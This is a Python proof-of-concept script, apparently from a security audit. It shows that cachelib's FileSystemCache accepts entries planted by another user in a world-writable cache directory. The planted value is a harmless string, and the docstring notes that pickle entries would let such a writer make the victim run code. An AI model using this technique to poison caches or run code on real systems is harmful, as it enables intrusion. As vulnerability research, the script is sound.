"""FileSystemCache uses a directory that another user owns and everyone can write, and returns
the entries it finds there as genuine. Here the directory belongs to uid 65534 (nobody) with
mode 0o777, a process running as that user adds an entry, and the victim's fresh cache on the
directory gets the planted value. Entries are pickles, so whoever can write the directory can
make the victim's get run code (see SAFE-DISK-NO-CODE). cachelib documents that the cache
"depends on being the only user of the cache_dir" and leaves the directory choice to the caller;
nothing checks its owner or mode. Needs root (to chown).
"""
import os
import tempfile
from pathlib import Path

from cachelib import FileSystemCache

NOBODY = 65534
if os.geteuid() != 0:
    raise SystemExit("run as root: building another user's directory needs chown")
with tempfile.TemporaryDirectory() as tmp:
    os.chmod(tmp, 0o755)
    shared = Path(tmp, "cache")
    shared.mkdir()
    os.chown(shared, NOBODY, NOBODY)
    os.chmod(shared, 0o777)
    pid = os.fork()
    if pid == 0:  # the other user plants an entry
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        planted = FileSystemCache(str(shared), threshold=0, default_timeout=0).add(
            "key", "planted by uid 65534")
        os._exit(0 if planted else 1)
    assert os.waitpid(pid, 0)[1] == 0, "the other user could not plant the entry"
    got = FileSystemCache(str(shared), threshold=0, default_timeout=0).get("key")
    print(f"owner uid {shared.stat().st_uid}, mode {oct(shared.stat().st_mode & 0o777)}")
    print("victim get('key') ->", repr(got))
    if got == "planted by uid 65534":
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
